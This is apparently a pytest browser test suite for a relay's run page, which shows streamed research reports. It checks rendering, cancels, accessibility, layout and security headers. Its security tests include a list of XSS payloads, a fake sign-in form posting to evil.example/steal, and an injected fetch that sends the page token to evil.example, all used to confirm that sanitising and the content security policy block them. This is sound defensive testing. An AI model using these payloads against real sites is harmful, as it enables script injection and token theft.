"""The page of a run in a real browser without network besides the relay."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from ...fakes.gateway import Fault, Gateway, Json, message
from ...fakes.scripted import eventually, free_port
from ..browser import Page
from ..conftest import StartRelay
from ..running import Api, RelayProcess, ThreadedRelay, body, environment

TEXT = "# Noodles\n\nThey are **old** ([a source](https://a.example/1)).\n\n## Since when\n\n* 1883\n* 1905\n"


def link(api: Api, started: Json, token: str | None = None) -> str:
    """Return the address of a run's page, by default with its token."""
    return f"{api.base_url}/runs/{started['invocation_id']}#{started['invocation_token'] if token is None else token}"


def answers(upstream: Gateway, text: str, *sources: tuple[str, str], **usage: Any) -> None:
    """Let the gateway answer with a text and its sources, in pieces if it streams."""

    def final(_: Json) -> Json:
        whole = message(text, usage=usage)
        whole["output"][0]["content"][0]["annotations"] = [
            {"type": "url_citation", "url": url, "title": title, "start_index": 0, "end_index": 1}
            for url, title in sources
        ]
        return whole

    upstream.final = final
    upstream.pieces = [text[at : at + 20] for at in range(0, len(text), 20)]


@pytest.fixture
def hold(upstream: Gateway) -> Iterator[Callable[[int], threading.Event]]:
    """A function that stops streams after some pieces, until the event that it returns is set."""
    held: list[threading.Event] = []

    def after(pieces: int) -> threading.Event:
        release = threading.Event()
        held.append(release)

        def wait(sent: int) -> Fault | None:
            return None if sent < pieces or release.wait(120) else Fault("drop")

        upstream.during_stream = wait
        return release

    yield after
    for release in held:
        release.set()


def ready(page: Page) -> None:
    """Wait until the page shows the end of its run."""
    page.until("document.body.dataset.ready")


def assert_clean(page: Page, api: Api, *tokens: str) -> None:
    """Assert that the page's scripts had no errors, and that nothing but the relay was asked, never with a token."""
    assert page.complaints == []
    assert page.hosts == {urlsplit(api.base_url).netloc}
    assert not [url for url in page.requested for token in tokens if token in url]


def test_a_run_from_its_first_status_to_its_report(
    relay: ThreadedRelay, upstream: Gateway, page: Page, hold: Callable[[int], threading.Event]
) -> None:
    usage = {"input_tokens": 12345, "output_tokens": 678, "output_tokens_details": {"reasoning_tokens": 90}}
    answers(upstream, TEXT, ("https://a.example/1", "A source"), ("https://b.example/2", "An [other] one"), **usage)
    upstream.cost = "1.5"
    release, upstream.accept = hold(2), 60.0
    started = relay.api.start("Why <b>noodles</b>?", stream=True)
    page.open(link(relay.api, started))
    page.until_text("#state", "Queued")
    assert page.text("h1") == "Why <b>noodles</b>?"
    page.until_text("#seconds", "1 s")
    upstream.accept = 0.0
    page.until_text("#state", "Running")
    page.until_text("#text", TEXT[:40].splitlines()[-1])
    assert page.run("document.title") == "Running – Why <b>noodles</b>?"
    assert page.run("document.querySelector('#cancel').hidden || document.querySelector('#downloads').hidden")
    release.set()
    ready(page)
    assert page.text("#state") == "Completed"
    assert page.run("[...document.querySelectorAll('#report > *')].map(e => e.localName)") == ["h3", "p", "h4", "ul"]
    assert page.text("#report p") == "They are old (a source)."
    shown = page.run("[...document.querySelectorAll('#sources a')].map(e => [e.href, e.textContent, e.rel])")
    rel = "noopener noreferrer nofollow"
    assert shown == [["https://a.example/1", "A source", rel], ["https://b.example/2", "An [other] one", rel]]
    details = page.text("#details")
    for fact in ("$1.50", "12,345 in, 678 out (90 of them reasoning)"):
        assert fact in details
    assert page.run("document.querySelector('#cancel').hidden && document.querySelector('#text').hidden")
    assert page.run("location.hash.slice(1)") == started["invocation_token"]
    assert_clean(page, relay.api, started["invocation_token"])


def test_downloads(relay: ThreadedRelay, upstream: Gateway, page: Page, tmp_path: Path) -> None:
    odd = "https://b.example/a(b)?q=%2F<x>"
    answers(upstream, TEXT, ("https://a.example/1", "A source"), (odd, "An [other]\n*one*"))
    started = relay.api.start()
    view = relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    page.click("#markdown")
    page.click("#json")
    files = [tmp_path / f"{started['invocation_id']}.{kind}" for kind in ("md", "json")]
    assert eventually(lambda: all(file.exists() and file.stat().st_size for file in files))
    written = "* [An \\[other\\] \\*one\\*](<https://b.example/a(b)?q=%2F%3Cx%3E>)"
    assert files[0].read_text() == f"{TEXT}\n\n## Sources\n\n{written}\n"
    assert json.loads(files[1].read_text()) == view


def test_a_reload_in_the_middle(
    relay: ThreadedRelay, upstream: Gateway, page: Page, hold: Callable[[int], threading.Event]
) -> None:
    answers(upstream, TEXT)
    release = hold(2)
    started = relay.api.start(stream=True)
    for _ in range(2):
        page.open("about:blank")
        page.open(link(relay.api, started))
        page.until(f"document.querySelector('#text').textContent === {json.dumps(TEXT[:40])}")
    page.call("Page.reload")
    page.until(f"document.querySelector('#text')?.textContent === {json.dumps(TEXT[:40])}")
    release.set()
    ready(page)
    assert page.text("#report h3") == "Noodles"
    assert len(upstream.posts) == 1


@pytest.mark.parametrize("crash", [True, False])
def test_a_restart_of_the_relay_in_the_middle(
    crash: bool, sqlite_url: str, upstream: Gateway, page: Page, hold: Callable[[int], threading.Event]
) -> None:
    answers(upstream, TEXT)
    hold(2)
    port = free_port()
    relays = [RelayProcess(environment(sqlite_url, upstream, RELAY_LOG_LEVEL="DEBUG"), "--port", str(port)).ready()]
    try:
        started = relays[0].api.start(stream=True)
        page.open(link(relays[0].api, started))
        page.until(f"document.querySelector('#text').textContent === {json.dumps(TEXT[:40])}")
        if crash:
            relays[0].kill()
        else:
            relays[0].terminate()
        page.until_text("#connection", "lost")
        assert page.text("#state") == "Running"
        relays.append(RelayProcess(environment(sqlite_url, upstream), "--port", str(port)).ready())
        page.until("document.querySelector('#connection').textContent === ''")
        upstream.finish()
        ready(page)
        assert page.text("#report h3") == "Noodles"
        assert len(upstream.posts) == 1
        assert_clean(page, relays[1].api, started["invocation_token"])
        assert not [one for one in relays if started["invocation_token"][:20] in one.log]
    finally:
        for one in relays:
            one.ensure_ended()


def test_the_final_event_is_not_awaited_twice(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    """Opened after the end, the page reads the view, and needs no event."""
    answers(upstream, TEXT)
    started = relay.api.start()
    relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    assert page.text("#report h3") == "Noodles"
    assert not [url for url in page.requested if url.endswith("/events")]


@pytest.mark.parametrize(
    ("token", "problem"),
    [
        ("wrong", "does not open the run"),
        ("", "lacks the run's token"),
        ("%zz", "does not open the run"),
        ("%ED%86%A0", "damaged"),
        ("a%0D%0Ab", "damaged"),
        ("<img src=x onerror=window.hacked=1>", "damaged"),
    ],
)
def test_a_wrong_token(token: str, problem: str, relay: ThreadedRelay, page: Page) -> None:
    started = relay.api.start()
    page.open(link(relay.api, started, token))
    page.until_text("#problem", problem)
    assert page.run("document.activeElement.id") == "open-token"
    assert page.run("document.querySelector('#run').hidden && !window.hacked")
    page.type(started["invocation_token"])
    page.press("Enter", "\r")
    ready(page)
    assert page.text("#problem") == ""
    assert page.text("#state") == "Completed"
    assert_clean(page, relay.api, started["invocation_token"])


@pytest.mark.parametrize(
    "form", ["{base}/runs/{id}#{token}", "{id}.{token}", " {id} ", "https://other.example/runs/{id}#{token}"]
)
def test_the_start_page_takes_what_names_a_run(form: str, relay: ThreadedRelay, page: Page) -> None:
    started = relay.api.start("Why?")
    given = form.format(base=relay.api.base_url, id=started["invocation_id"], token=started["invocation_token"])
    page.open(f"{relay.api.base_url}/")
    page.until("document.activeElement.id === 'open-id'")
    page.type(given)
    if "{token}" not in form:
        page.press("Tab")
        page.type(started["invocation_token"])
    page.press("Enter", "\r")
    ready(page)
    assert page.run("location.pathname") == f"/runs/{started['invocation_id']}"
    assert page.text("h1") == "Why?"
    assert_clean(page, relay.api, started["invocation_token"])


def test_another_token_in_the_address_opens_the_run(relay: ThreadedRelay, page: Page) -> None:
    started = relay.api.start()
    page.open(link(relay.api, started, "wrong"))
    page.until_text("#problem", "does not open")
    page.run(f"location.hash = {json.dumps(started['invocation_token'])}")
    ready(page)


def test_a_cancel_with_the_keyboard(
    relay: ThreadedRelay, upstream: Gateway, page: Page, hold: Callable[[int], threading.Event]
) -> None:
    answers(upstream, TEXT)
    hold(2)
    upstream.seconds = 60.0
    started = relay.api.start(stream=True)
    page.open(link(relay.api, started))
    page.until_text("#text", "Noodles")
    page.run("document.querySelector('#cancel').focus()")
    for leave in ("Escape", "Enter"):  # Enter on the button in focus, which keeps the run
        page.press("Enter", "\r")
        page.until("document.querySelector('#confirm').open")
        page.press(leave, "\r" if leave == "Enter" else "")
        page.until("!document.querySelector('#confirm').open")
    assert page.text("#state") == "Running"
    page.press("Enter", "\r")
    page.until("document.querySelector('#confirm').open")
    page.press("Tab")
    assert page.run("document.activeElement.value") == "cancel"
    page.press("Enter", "\r")
    ready(page)
    assert page.text("#state") == "Cancelled"
    assert page.run("document.querySelector('#cancel').hidden")
    assert upstream.cancels == 1
    assert relay.api.view(started)["status"] == "cancelled"


def test_a_cancel_that_fails(start_relay: StartRelay, upstream: Gateway, page: Page) -> None:
    upstream.seconds = 60.0
    relay = start_relay()
    page.open(link(relay.api, relay.api.start()))
    page.until_text("#state", "Running")
    page.call("Network.setBlockedURLs", urls=["*/cancel"])
    page.click("#cancel")
    page.click("#confirm [value=cancel]")
    page.until_text("#problem", "could not be cancelled")
    assert page.text("#state") == "Running"
    page.call("Network.setBlockedURLs", urls=[])
    page.click("#cancel")
    page.click("#confirm [value=cancel]")
    page.until_text("#state", "Cancelled")


def test_a_failed_run_says_why(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    upstream.final = lambda _: (
        message("A part.") | {"status": "incomplete", "incomplete_details": {"reason": "max_output_tokens"}}
    )
    started = relay.api.start()
    view = relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    assert page.text("#state") == "Incomplete"
    assert page.text("#problem") == view["error_message"]
    assert page.text("#report") == "A part."
    assert "output_limit_reached" in page.text("#details")


def test_a_report_that_is_not_markdown_is_shown_as_it_is(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    answers(upstream, text := '{"title": "*a*",\n  "sections": []}')
    started = relay.api.start(deliverable_format="json_outline")
    relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    assert page.text("#text") == text


ATTACKS = """
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>
<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe> <object data="javascript:hacked=5"></object>
<form action="https://evil.example/steal"><input name=token><button>Sign in again</button></form>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0; url=https://evil.example/">
<style>body { display: none }</style> <link rel=stylesheet href="https://evil.example/x.css">
<a href="javascript:hacked=6" onclick="hacked=6">click</a> <!-- --><div id="state" name="cancel">

[a](javascript:window.hacked=7) [b](JaVaScRiPt:hacked=8) [c](data:text/html;base64,PHNjcmlwdD4=) [d](vbscript:x)
[e](&#106;avascript:hacked=9) [f](java&Tab;script:hacked=10) [g](//evil.example) [h](#changes-the-token) [i](/docs)
[k]( <javascript:hacked=11> ) [l](blob:https://evil.example/1) [m](https:evil.example) <javascript:hacked=12>
[j](file:///etc/passwd) <data:text/html,x>
[n]: javascript:hacked=13 "title" onmouseover="hacked=14"
[n] [o](https://ok.example/"onmouseover="hacked=15) [p](https://ok.example/ "t\\" onmouseover=\\"hacked=16")
![img](https://evil.example/pixel.png) ![img](x "onerror=hacked=17") ![](data:image/svg+xml,<svg/onload=hacked=18>)
`<img src=x onerror=hacked=19>` **<img src=x onerror=hacked=20>** <mailto:a@ok.example>

```html" onmouseover="hacked=21
<script>hacked = 22</script>
```

| <img src=x onerror=hacked=23> | b |
|---|:-:|
| [x](javascript:hacked=24) | style |
"""


def test_a_report_that_attacks(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    sources = [
        ("javascript:window.hacked=30", "click me"),
        ('https://ok.example/"><script>hacked=31</script>', "<img src=x onerror=hacked=32>"),
        ("data:text/html,<script>hacked=33</script>", ""),
        ("https://user:password@ok.example/", "\u202egnp.exe"),
    ]
    answers(upstream, ATTACKS, *sources)
    started = relay.api.start("<img src=x onerror=hacked=40> </h1><script>hacked=41</script>")
    relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    inside = "[...document.querySelectorAll('#report *, #sources *, h1 *')]"
    names = set(page.run(f"{inside}.map(e => e.localName)"))
    assert names <= {
        "a",
        "code",
        "em",
        "li",
        "ol",
        "p",
        "pre",
        "span",
        "h2",
        "strong",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
    attributes = set(page.run(f"{inside}.flatMap(e => e.getAttributeNames())"))
    assert attributes <= {"class", "dir", "href", "id", "rel", "target", "title"}
    assert page.run("document.querySelectorAll('#report [id], #report [name]').length") == 0
    addresses = page.run("[...document.querySelectorAll('#report a, #sources a')].map(e => e.protocol + e.host)")
    assert set(addresses) == {"https:ok.example", "https:evil.example", "mailto:"}
    assert "Sign in again" in page.text("#report")  # harmless, as text
    page.run("document.querySelectorAll('#report *, #sources span').forEach(e => e.localName === 'a' || e.click())")
    assert page.run("window.hacked ?? 'untouched'") == "untouched"
    assert page.run("location.hash.slice(1)") == started["invocation_token"]
    assert_clean(page, relay.api, started["invocation_token"])


def test_the_policy_stops_what_would_get_into_the_page(relay: ThreadedRelay, page: Page) -> None:
    """The second line of defence, should the renderer ever let markup pass."""
    started = relay.api.start()
    relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    page.run(
        """
        window.refused = [];
        addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));
        document.querySelector('#report').innerHTML = `<img src=x onerror="hacked = 1"><p style="color: red">
            <img src="https://evil.example/pixel.png"><iframe src="https://evil.example/"></iframe>
            <object data="https://evil.example/"></object><link rel=stylesheet href="https://evil.example/x.css">`;
        document.head.append(Object.assign(document.createElement("script"), {text: "hacked = 2"}));
        fetch("https://evil.example/" + location.hash.slice(1)).catch(() => 0);
        document.body.insertAdjacentHTML("beforeend", `<form id=evil action="https://evil.example/"></form>`);
        document.querySelector("#evil").submit();
        """
    )
    wanted = [
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "object-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
    ]
    page.until(f"{json.dumps(wanted)}.every(one => refused.includes(one))")
    assert page.run("window.hacked ?? 'untouched'") == "untouched"


def test_two_megabytes_and_5000_sources(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    text = "**word** <img src=x onerror=hacked=1> " * 54_000
    answers(upstream, text[:2_000_000], *((f"https://s{n}.example/{n}", f"Source {n}") for n in range(5000)))
    started = relay.api.start()
    relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    assert page.run("document.querySelectorAll('#sources li').length") == 5000
    assert page.run("document.querySelector('#text').textContent.length") == 2_000_000
    assert_clean(page, relay.api)


def test_korean_and_right_to_left_reports(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    for question, text, language, direction in (
        ("짜장면의 역사를 조사해줘", "# 짜장면\n\n1883년 **인천**에서.\n\n* 하나", "ko", "ltr"),
        ("ما هو تاريخ القهوة؟", "# القهوة\n\nمن اليمن.\n\n* أول\n* ثان", "", "rtl"),
        ("מה ההיסטוריה של הקפה?", "# קפה\n\n* אחד", "he", "rtl"),
        ("Why?", "# 자장면 (jajangmyeon) is a dish\n\n* One in an English report", "", "ltr"),
    ):
        answers(upstream, text)
        started = relay.api.start(question)
        relay.api.wait(started)
        page.open("about:blank")
        page.open(link(relay.api, started))
        ready(page)
        assert page.text("h1") == question
        assert page.run("document.querySelector('#report').lang") == language
        for block in ("h1", "#report h3", "#report ul"):
            assert page.run(f"getComputedStyle(document.querySelector('{block}')).direction") == direction
        assert page.run("document.documentElement.dir") == ""


def test_the_language_of_the_arguments_wins(relay: ThreadedRelay, page: Page) -> None:
    started = relay.api.start("Why?", language="pt-BR")
    relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    assert page.run("document.querySelector('#report').lang") == "pt-BR"


def test_a_screen_reader_finds_its_way(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    answers(upstream, TEXT, ("https://a.example/1", "A source"))
    started = relay.api.start("Why?")
    relay.api.wait(started)
    page.open(link(relay.api, started))
    ready(page)
    tree = page.call("Accessibility.getFullAXTree")["nodes"]
    found = [
        (
            node["role"]["value"],
            node.get("name", {}).get("value"),
            {one["name"]: one["value"].get("value") for one in node.get("properties", [])},
        )
        for node in tree
        if not node["ignored"]
    ]
    headings = [(name, properties["level"]) for role, name, properties in found if role == "heading"]
    assert headings == [("Why?", 1), ("Report", 2), ("Noodles", 3), ("Since when", 4), ("Sources", 2), ("Details", 2)]
    roles = {role for role, *_ in found}
    assert {"main", "status", "timer", "article", "list", "link"} <= roles
    buttons = [name for role, name, _ in found if role == "button"]
    assert buttons == ["Download Markdown", "Download JSON"]
    live = [properties.get("live") for role, _, properties in found if role in ("status", "alert")]
    assert set(live) <= {"polite", "assertive"}
    assert page.run("document.documentElement.lang") == "en"
    page.open(f"{relay.api.base_url}/")
    page.until("!document.querySelector('#open').hidden")
    labels = page.run("[...document.querySelectorAll('#open input')].map(e => e.labels[0].textContent)")
    assert labels == ["Id or link of the run", "Token of the run"]


@pytest.mark.parametrize("dark", [False, True])
@pytest.mark.parametrize("width", [320, 1200])
def test_it_fits_a_phone_and_the_dark(
    dark: bool, width: int, relay: ThreadedRelay, upstream: Gateway, page: Page
) -> None:
    wide = f"| a | b |\n|---|---|\n| {'wide ' * 40} | {'x' * 200} |\n\n```\n{'long line ' * 50}\n```\n\n{'y' * 500}\n"
    answers(upstream, TEXT + wide, (f"https://a.example/{'z' * 300}", ""))
    started = relay.api.start("Why? " + "w" * 200)
    relay.api.wait(started)
    page.emulate(width=width, dark=dark)
    page.open(link(relay.api, started))
    ready(page)
    assert page.run("document.documentElement.scrollWidth") <= width  # nothing to scroll sideways
    colour = page.run("getComputedStyle(document.documentElement).backgroundColor.match(/\\d+/g).map(Number)")
    assert (max(colour) < 60) if dark else (min(colour) > 240)
    assert page.run(CONTRAST) >= 4.5  # WCAG 2, AA


# The lowest contrast of any text with its background.
CONTRAST = """
(() => {
  const rgb = (css) => css.match(/[\\d.]+/g).map(Number);
  const luminance = (css) => {
    const [r, g, b] = rgb(css).map(v => v / 255).map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4);
    return .2126 * r + .7152 * g + .0722 * b;
  };
  const behind = (e) => {
    for (; e; e = e.parentElement) {
      const css = getComputedStyle(e).backgroundColor;
      if (rgb(css)[3] !== 0) return css;
    }
  };
  const texts = [...document.querySelectorAll('body *')].filter(e => e.offsetParent && e.innerText?.trim());
  return Math.min(...texts.map(e => {
    const [low, high] = [luminance(getComputedStyle(e).color), luminance(behind(e))].sort((a, b) => a - b);
    return (high + .05) / (low + .05);
  }));
})()
"""


@pytest.mark.parametrize(
    "path", ["/", "/runs/inv_x", "/page/run.js", "/page/relay.js", "/page/run.css", "/page/icon.svg"]
)
def test_the_headers(path: str, relay: ThreadedRelay) -> None:
    answer = relay.api.call("GET", path)
    assert answer.status_code == 200
    policy = dict(one.strip().partition(" ")[::2] for one in answer.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == policy["img-src"] == "'self'"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"
    head = relay.api.call("HEAD", path)
    assert (head.status_code, head.content, head.headers["content-type"]) == (200, b"", answer.headers["content-type"])


def test_the_page_is_the_same_for_every_run(relay: ThreadedRelay) -> None:
    started = relay.api.start()
    pages = {
        relay.api.call("GET", f"/runs/{id}").content for id in (started["invocation_id"], "inv_x", "<b>", "%22%3E")
    }
    assert len(pages) == 1
    assert b"<script>" not in pages.pop()
    for path in ("/page/run.html", "/page/../pages.py", "/page/%2e%2e/pages.py", "/page/", "/runs/", "/page/run.js/x"):
        assert relay.api.call("GET", path).status_code == 404


def test_the_report_needs_the_token(relay: ThreadedRelay) -> None:
    started = relay.api.start("Why?")
    path = f"/runs/{started['invocation_id']}/report"
    assert relay.api.call("GET", path).status_code == 403
    assert relay.api.call("GET", path, headers={"X-Invocation-Token": "wrong"}).status_code == 403
    relay.api.wait(started)
    told = relay.api.call("GET", path, headers={"X-Invocation-Token": started["invocation_token"]}).json()
    assert told == {"research_question": "Why?", "language": None, "html": '<p dir="auto">The answer.</p>\n'}


def test_the_relay_answers_while_it_renders(relay: ThreadedRelay, upstream: Gateway) -> None:
    answers(upstream, "[" * 200_000)
    started = relay.api.start()
    relay.api.wait(started)
    told: list[Json] = []

    def fetch() -> None:
        api = Api(relay.api.base_url)
        headers = {"X-Invocation-Token": started["invocation_token"]}
        told.append(api.call("GET", f"/runs/{started['invocation_id']}/report", headers=headers).json())
        api.http.close()

    readers = [threading.Thread(target=fetch) for _ in range(2)]
    for reader in readers:
        reader.start()
    answered = 0
    while len(told) < 2:
        began = time.monotonic()
        assert relay.api.call("GET", "/healthz").status_code == 200
        answered += time.monotonic() - began < 1
    for reader in readers:
        reader.join()
    assert [one["html"] for one in told] == [None, None]
    assert answered > 20


def test_a_page_below_a_path(relay: ThreadedRelay, page: Page) -> None:
    """A proxy may serve the relay under a path: the page refers to everything relatively."""
    html = relay.api.call("GET", "/runs/inv_x").text
    assert '="/' not in html
    assert "://" not in html
    for file in ("run.js", "relay.js", "run.css"):
        text = relay.api.call("GET", f"/page/{file}").text
        assert "://" not in text.replace("[^:]://", "")
        assert '"/' not in text


def test_starts_hand_out_the_link(start_relay: StartRelay) -> None:
    relay = start_relay(public_url="https://relay.example.org/deep")
    started = relay.api.start()
    page = f"https://relay.example.org/deep/runs/{started['invocation_id']}"
    assert started["url"] == f"{page}#{started['invocation_token']}"
    assert relay.api.wait(started)["url"] == relay.api.view(started)["url"] == page
    assert relay.api.events(started)[-1].data["url"] == page
    foreground = relay.api.post(body("Why?")).json()
    assert foreground["url"].endswith(f"#{foreground['invocation_token']}")


def test_without_a_public_address_there_is_no_link(relay: ThreadedRelay) -> None:
    started = relay.api.start()
    assert started["url"] is None
    assert relay.api.wait(started)["url"] is None
